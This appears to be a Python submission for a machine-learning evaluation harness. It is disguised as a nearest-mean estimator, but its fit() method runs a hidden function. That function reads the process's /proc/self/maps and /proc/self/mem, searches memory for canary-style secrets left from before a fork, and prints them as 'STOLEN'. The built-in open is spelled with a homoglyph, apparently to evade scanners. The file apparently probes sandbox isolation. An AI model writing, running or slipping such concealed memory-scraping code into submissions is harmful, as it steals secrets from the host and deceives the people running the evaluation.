"""Searches the memory of its process for secrets that were there before the fork."""

import re

from nearest import NearestMean

TARGETS: dict[str, str] = {}


def attack():
    secret = re.compile(b'CANARY' + b'-[0-9a-f]{6,}')
    with ｏpen('/proc/self/maps') as file:
        areas = [line.split() for line in file]
    with ｏpen('/proc/self/mem', 'rb', 0) as memory:
        for span, mode, *_ in areas:
            start, end = (int(number, 16) for number in span.split('-'))
            if 'r' not in mode or end - start > 64 << 20 or start > 1 << 47:
                continue
            try:
                memory.seek(start)
                found = secret.findall(memory.read(end - start))
            except (OSError, ValueError):
                continue
            for word in found[:3]:
                print('STOLEN from memory:', word[:7] + word[7:].hex().encode(), word, flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
